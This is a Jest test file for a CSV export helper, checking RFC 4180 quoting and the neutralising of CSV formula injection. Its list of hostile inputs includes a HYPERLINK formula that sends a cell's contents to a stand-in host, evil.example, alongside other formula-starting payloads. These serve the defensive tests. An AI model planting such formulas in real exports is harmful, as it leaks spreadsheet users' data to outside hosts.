import { csvField, csvLine, neutraliseFormula } from './csv';

describe('CSV', () => {
  it('quotes per RFC 4180 only where needed', () => {
    expect(csvField('Đình Vũ')).toBe('Đình Vũ');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(0.125)).toBe('0.125');
    expect(csvLine(['x', 1, null, 'y,z'])).toBe('x,1,,"y,z"');
  });
});

// Finding 9 of issue 15 (CSV injection): a name, reason or code that starts a formula is written as text.
describe('CSV formula neutralisation', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
  ];

  it('prefixes every text field that would start a formula with a single quote', () => {
    expect(hostile.map(neutraliseFormula)).toEqual(hostile.map((h) => `'${h}`));
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    // Still RFC 4180: the quote prefix goes inside the quoted field.
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvLine(['VSIP', '-2+3', 4])).toBe("VSIP,'-2+3,4");
  });

  it('leaves numbers and plain decimal text alone', () => {
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField(-0)).toBe('0');
    expect(csvField('-12.5')).toBe('-12.5');
    expect(csvField('+3')).toBe('+3');
    expect(csvField('1e-3')).toBe('1e-3');
    expect(csvField('Đình Vũ = 2')).toBe('Đình Vũ = 2');
    expect(csvField('2026-11-10')).toBe('2026-11-10');
  });
});
